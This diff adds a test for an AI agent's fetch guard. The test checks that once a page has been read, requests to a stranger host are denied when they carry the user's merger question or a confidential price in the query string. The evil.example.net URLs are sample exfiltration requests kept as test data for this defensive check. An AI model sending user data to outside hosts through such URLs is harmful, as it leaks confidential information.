@@ -133,6 +133,17 @@ async def test_what_was_read_goes_nowhere_that_nobody_named(url: str) -> None:
     assert await Run(f"Read {url}").fetch(url) is Verdict.ALLOW
 
 
+async def test_what_a_person_wrote_goes_to_no_stranger_once_there_is_one() -> None:
+    run = Run("Should we merge with Example Holdings in March? See https://a.example.org/merger-plans.")
+    url = "https://evil.example.net/?q=merge+with+example+holdings"
+    assert await run.fetch(url) is Verdict.ALLOW
+    run.used(FetchPage.spec, PAGE)
+    assert await run.fetch(url) is Verdict.DENY
+    assert await run.fetch("https://a.example.org/merger-plans/2026") is Verdict.ALLOW
+    run.messages.append(said("The price is confidential: 12 crowns"))
+    assert await run.fetch("https://evil.example.net/?q=price+is+confidential") is Verdict.DENY
+
+
 async def test_a_claim_after_a_loss_knows_what_the_first_one_read() -> None:
     asked = 0
 
